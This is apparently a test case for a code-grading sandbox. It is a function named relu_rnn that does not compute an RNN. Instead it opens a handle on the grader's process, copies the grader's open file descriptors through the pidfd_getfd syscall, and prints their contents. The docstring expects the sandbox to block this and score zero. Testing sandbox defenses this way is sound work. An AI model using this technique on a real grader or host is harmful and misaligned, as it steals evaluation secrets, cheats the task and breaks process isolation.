"""Goal: Take an open file out of the process that grades.

Layer: seccomp, files, namespaces. Verdict: 0 points; raised.
"""

import ctypes
import os
from contextlib import suppress

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_GETFD = 438
GRADER = int("@grader@")


def relu_rnn(x, h0, w1, w2):
    grader = os.pidfd_open(GRADER)
    for number in range(3, 256):
        taken = libc.syscall(PIDFD_GETFD, grader, number, 0)
        if taken >= 0:
            with suppress(OSError):
                print(os.pread(taken, 100, 0))
            os.close(taken)
